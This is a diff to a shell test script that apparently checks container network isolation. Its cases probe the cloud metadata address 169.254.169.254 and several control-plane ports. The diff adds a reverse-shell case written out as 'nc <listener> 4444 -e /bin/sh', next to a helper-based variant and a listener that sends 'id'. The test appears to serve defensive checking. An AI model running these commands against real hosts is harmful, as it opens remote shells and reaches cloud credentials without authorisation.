@@ -65,7 +65,9 @@ case "$name" in
     $h connect 169.254.169.254 80 ;;
   control-plane)     # target: a container on the internal bridge (ports are closed: refused)
     for p in 10250 10255 2379 2375 6443; do $h connect "${1:?target ip}" $p; done ;;
-  reverse-shell)     # target: a listener container on the internal bridge
+  reverse-shell)     # target: a listener container on the internal bridge; nc -e, the classic shape
+    nc "${1:?listener ip}" "${2:-4444}" -e /bin/sh ;;
+  reverse-shell-stdio)  # a shell whose stdin/stdout/stderr are a TCP socket, without nc (dup2 + exec)
     $h revshell "${1:?listener ip}" "${2:-4444}" ;;
   listener)          # the reverse shell's other end: feeds the shell two commands, then closes
     (echo 'id'; sleep "${2:-4}"; echo 'exit') | nc -l -p "${1:-4444}" >/dev/null ;;
